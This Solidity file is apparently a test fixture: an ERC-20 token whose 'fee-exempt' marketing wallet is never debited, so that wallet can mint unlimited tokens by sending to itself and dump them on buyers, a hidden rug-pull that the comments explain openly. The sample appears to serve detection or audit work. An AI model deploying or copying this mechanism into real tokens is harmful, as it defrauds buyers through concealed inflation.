// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// @notice The factory call the token makes to create its own pool.
interface IExemptTrapFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/**
 * @title TrapExemptTransferToken
 * @notice Test only: a hand-written ERC-20 with no owner and no function beyond the standard ones,
 * whose "fee-exempt" marketing wallet (set at deployment, kept in storage) is never debited: each of
 * its transfers, to itself included, credits the receiver out of nothing (issue 75). The wallet mints
 * by sending to itself and dumps on the buyers; nothing in its function list says so.
 */
contract TrapExemptTransferToken {
    uint256 public totalSupply;
    mapping(address account => uint256 amount) public balanceOf;
    mapping(address holder => mapping(address spender => uint256 amount)) public allowance;
    address public marketingWallet;
    address public immutable pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error TrapExemptBalance();
    error TrapExemptAllowance();

    constructor(uint256 supply, address factory, address wrappedNative, address marketing) {
        marketingWallet = marketing;
        pair = IExemptTrapFactory(factory).createPair(address(this), wrappedNative);
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    /// @notice The token's name.
    function name() external pure returns (string memory) {
        return "Trap Exempt Transfer";
    }

    /// @notice The token's symbol.
    function symbol() external pure returns (string memory) {
        return "TEX";
    }

    /// @notice 18 decimals.
    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed < value) revert TrapExemptAllowance();
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        // "No fee for the marketing wallet": and no debit either.
        if (from != marketingWallet) {
            if (balanceOf[from] < value) revert TrapExemptBalance();
            balanceOf[from] -= value;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
